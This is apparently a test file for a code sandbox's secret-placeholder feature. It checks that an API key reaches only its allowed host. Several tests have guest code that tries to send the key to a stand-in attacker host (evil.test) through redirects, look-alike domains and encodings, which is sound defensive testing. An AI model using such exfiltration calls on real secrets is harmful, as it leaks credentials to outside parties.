/**
 * Issue 18 on the in-process tiers: the guest holds a placeholder (`env.API_KEY` on quickjs, the WASI
 * environment on wasm), the host's guarded fetch puts the value in only toward the secret's host, and the
 * value never comes back to the guest, into a result, or into a manager event. Every bad input of the issue
 * against local HTTP and HTTPS servers; each test greps what the other hosts received and what the guest got.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { SandboxManager, type ExecResult, type Sandbox } from '../../../src/index.js'
import {
  SECRET_HOST,
  SECRET_VALUE,
  secretConfig,
  startSecretServers,
  type SecretServers,
} from './secret-servers.js'

let servers: SecretServers
let manager: SandboxManager
const events: string[] = []

beforeAll(async () => {
  servers = await startSecretServers()
  manager = new SandboxManager()
  const emit = manager.emit.bind(manager) as (name: string, ...args: unknown[]) => boolean
  manager.emit = ((name: string, ...args: unknown[]) => {
    events.push(JSON.stringify(args, (_k, v: unknown) => (v instanceof Uint8Array ? [] : v)))
    return emit(name, ...args)
  }) as typeof manager.emit
})
afterAll(async () => {
  await manager.close()
  await servers.close()
  // Nothing any sandbox produced, in any event of the manager, carries the value.
  expect(events.join('\n')).not.toContain(SECRET_VALUE)
})

function expectNoValue(result: ExecResult): void {
  expect(JSON.stringify(result)).not.toContain(SECRET_VALUE)
}

describe('quickjs', () => {
  let sb: Sandbox
  let H = 0
  let T = 0
  beforeAll(async () => {
    ;({ http: H, https: T } = servers.ports)
    sb = await manager.create({ type: 'quickjs', ...secretConfig(servers.ports) })
  })
  const run = async (code: string): Promise<ExecResult> => {
    const result = await sb.execute(code)
    expectNoValue(result)
    return result
  }

  it('I18-1: env.API_KEY is an unguessable placeholder in a frozen, read-only env', async () => {
    const r = await run(`
      var before = env.API_KEY
      try { env.API_KEY = 'x' } catch {}
      try { globalThis.env = { API_KEY: 'y' } } catch {}
      ;({ before, after: env.API_KEY, frozen: Object.isFrozen(env), keys: Object.keys(env) })`)
    const value = r.value as { before: string; after: string; frozen: boolean; keys: string[] }
    expect(value.before).toMatch(/^SANDTIER_SECRET_API_KEY_[0-9a-f]{32}$/)
    expect(value).toEqual({
      before: value.before,
      after: value.before,
      frozen: true,
      keys: ['API_KEY'],
    })
  })

  it('I18-2: the secret host gets the value in a header; its echo comes back as the placeholder', async () => {
    const r = await run(`
      var res = await fetch('http://${SECRET_HOST}:${H}/echo', { headers: { 'x-api-key': env.API_KEY } })
      var body = await res.json()
      ;({ sent: body.headers['x-api-key'] === env.API_KEY, echoed: res.headers.get('x-echo') === env.API_KEY })`)
    expect(r.value).toEqual({ sent: true, echoed: true })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
    expect(r.usage.secretsBlocked).toBe(0)
  })

  it('I18-3: a placeholder sent to a host that is not listed stays a placeholder and is counted', async () => {
    const r = await run(
      `await (await fetch('http://evil.test:${H}/', { headers: { 'x-api-key': env.API_KEY } })).text()`,
    )
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.raw).toMatch(/x-api-key: SANDTIER_SECRET_API_KEY_/)
    expect(servers.receivedExceptBy(SECRET_HOST)).not.toContain(SECRET_VALUE)
    expect(r.usage.secretsBlocked).toBe(1)
  })

  it('I18-4: a redirect from the secret host to another host carries only the placeholder', async () => {
    const to = encodeURIComponent(`http://evil.test:${H}/landed`)
    const r = await run(
      `await (await fetch('http://${SECRET_HOST}:${H}/redirect?to=${to}', { headers: { 'x-api-key': env.API_KEY } })).text()`,
    )
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.raw).toMatch(
      /^GET \/landed[\s\S]*x-api-key: SANDTIER_SECRET_API_KEY_/,
    )
    expect(servers.receivedExceptBy(SECRET_HOST)).not.toContain(SECRET_VALUE)
    expect(r.usage.secretsBlocked).toBe(1)
  })

  it('I18-5: a placeholder split across two headers is never joined into the value', async () => {
    const r = await run(`
      var p = env.API_KEY, half = p.length >> 1
      await (await fetch('http://${SECRET_HOST}:${H}/', { headers: { 'x-a': p.slice(0, half), 'x-b': p.slice(half) } })).text()`)
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.raw).not.toContain(SECRET_VALUE)
  })

  it('I18-6: a base64-encoded placeholder is not substituted', async () => {
    const r = await run(
      `await (await fetch('http://${SECRET_HOST}:${H}/', { headers: { authorization: 'Basic ' + btoa('u:' + env.API_KEY) } })).text()`,
    )
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.raw).not.toContain(SECRET_VALUE)
    expect(servers.seen.at(-1)?.raw).not.toContain(
      Buffer.from(`u:${SECRET_VALUE}`).toString('base64'),
    )
  })

  it('I18-7: a look-alike of the secret host (api.allowed.test.evil.test) gets the placeholder', async () => {
    const r = await run(
      `await (await fetch('http://${SECRET_HOST}.evil.test:${H}/', { headers: { 'x-api-key': env.API_KEY } })).text()`,
    )
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.host).toBe(`${SECRET_HOST}.evil.test`)
    expect(servers.seen.at(-1)?.raw).toMatch(/x-api-key: SANDTIER_SECRET_API_KEY_/)
    expect(r.usage.secretsBlocked).toBe(1)
  })

  it('I18-8: the query and the body keep the placeholder when `in` lists only headers', async () => {
    const r = await run(
      `await (await fetch('http://${SECRET_HOST}:${H}/q?key=' + env.API_KEY, { method: 'POST', body: 'key=' + env.API_KEY })).text()`,
    )
    expect(r.value).toBe('ok')
    expect(servers.seen.at(-1)?.raw).not.toContain(SECRET_VALUE)
    expect(r.usage.secretsBlocked).toBe(1)
  })

  it('I18-9: HTTPS to the secret host (its CA trusted through network.caCertificates) gets the value', async () => {
    const r = await run(`
      var res = await fetch('https://${SECRET_HOST}:${T}/echo', { headers: { 'x-api-key': env.API_KEY } })
      var body = await res.json()
      body.headers['x-api-key'] === env.API_KEY`)
    expect(r.value).toBe(true)
    expect(servers.seen.at(-1)).toMatchObject({ secure: true, host: SECRET_HOST })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
  })

  it('I18-10: everything the guest can reach after an echo (globals, env, output) lacks the value', async () => {
    const r = await run(`
      var res = await fetch('http://${SECRET_HOST}:${H}/echo', { headers: { 'x-api-key': env.API_KEY } })
      var text = await res.text()
      console.log(text, JSON.stringify(env), Object.getOwnPropertyNames(globalThis).join(','))
      text + JSON.stringify(env)`)
    expect(r.status).toBe('ok')
    expect(r.stdout).toContain('SANDTIER_SECRET_API_KEY_')
  })

  it('I18-11: a second sandbox gets a different placeholder', async () => {
    const other = await manager.create({ type: 'quickjs', ...secretConfig(servers.ports) })
    const [a, b] = await Promise.all([sb.execute('env.API_KEY'), other.execute('env.API_KEY')])
    expect(a.value).not.toBe(b.value)
    await other.destroy()
  })
})

// AssemblyScript reads the WASI environment itself (the module imports environ_get) and fetches with it.
const AS_SOURCE = (url: string, header: string): string => `
import { fetch, FetchInit } from 'sandtier'
@external('wasi_snapshot_preview1', 'environ_sizes_get')
declare function environ_sizes_get(count: usize, size: usize): i32
@external('wasi_snapshot_preview1', 'environ_get')
declare function environ_get(environ: usize, buf: usize): i32

function placeholder(): string {
  const sizes = new ArrayBuffer(8)
  environ_sizes_get(changetype<usize>(sizes), changetype<usize>(sizes) + 4)
  const count = load<u32>(changetype<usize>(sizes))
  const bytes = load<u32>(changetype<usize>(sizes) + 4)
  const pointers = new ArrayBuffer(<i32>(count * 4 + 4))
  const buf = new ArrayBuffer(<i32>bytes)
  environ_get(changetype<usize>(pointers), changetype<usize>(buf))
  const all = String.UTF8.decode(buf).split('\\0')
  for (let i = 0; i < all.length; i++) if (all[i].startsWith('API_KEY=')) return all[i].substring(8)
  return ''
}

export function main(input: string): string {
  const init = new FetchInit()
  init.headers.set('${header}', placeholder())
  const res = fetch('${url}', init)
  return '{"env":"' + placeholder() + '","status":' + res.status.toString() + ',"echoed":' + (res.headers.includes(placeholder()) ? 'true' : 'false') + '}'
}
`

describe('wasm', () => {
  let sb: Sandbox
  beforeAll(async () => {
    sb = await manager.create({
      type: 'wasm',
      language: 'assemblyscript',
      ...secretConfig(servers.ports),
    })
  })

  it('I18-12: the WASI environment holds the placeholder; the secret host gets the value; the echo is scrubbed', async () => {
    const r = await sb.execute(
      AS_SOURCE(`http://${SECRET_HOST}:${servers.ports.http}/echo`, 'x-api-key'),
    )
    expectNoValue(r)
    const value = r.value as { env: string; status: number; echoed: boolean }
    expect(value.env).toMatch(/^SANDTIER_SECRET_API_KEY_[0-9a-f]{32}$/)
    expect(value).toEqual({ env: value.env, status: 200, echoed: true })
    expect(servers.seen.at(-1)?.raw).toContain(`x-api-key: ${SECRET_VALUE}`)
  })

  it('I18-13: from wasm, a host that is not listed gets the placeholder, counted', async () => {
    const r = await sb.execute(
      AS_SOURCE(`http://evil.test:${servers.ports.http}/echo`, 'x-api-key'),
    )
    expectNoValue(r)
    expect(r.value).toMatchObject({ status: 200, echoed: true })
    expect(servers.receivedExceptBy(SECRET_HOST)).not.toContain(SECRET_VALUE)
    expect(r.usage.secretsBlocked).toBe(1)
  })
})
